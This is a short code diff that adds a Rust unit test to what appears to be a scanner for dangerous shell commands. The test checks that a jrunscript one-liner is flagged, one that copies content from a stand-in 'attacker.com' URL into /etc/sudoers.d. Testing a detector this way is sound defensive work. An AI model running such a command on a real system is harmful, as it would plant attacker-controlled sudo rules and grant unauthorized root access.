@@ -339,3 +339,13 @@ fn kubeconfig_hunts_etcd_and_pod_secret_volumes() {
         "clean",
     );
 }
+
+/// Found measuring GTFOBins after the URL-path rule: a path beside a URL
+/// in the same word (`cp("http://x/etc/hosts","/etc/sudoers.d/dev")`) was
+/// skipped with the URL.
+#[test]
+fn a_path_beside_a_url_still_counts() {
+    common::not_clean(&[
+        "jrunscript -e 'cp(\"http://attacker.com/etc/hosts\",\"/etc/sudoers.d/dev\")'",
+    ]);
+}
